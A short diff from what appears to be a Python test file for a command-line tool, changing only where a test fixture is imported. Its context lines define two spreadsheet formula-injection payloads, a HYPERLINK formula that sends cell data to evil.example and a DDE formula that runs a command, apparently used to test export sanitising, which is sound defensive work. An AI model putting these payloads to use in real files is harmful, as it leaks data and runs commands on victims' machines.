@@ -11,7 +11,7 @@ from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
 from flows.cli import app
-from tests.provenance.audit.fixtures import build_recorded_run
+from tests.common.ledger import build_recorded_run
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
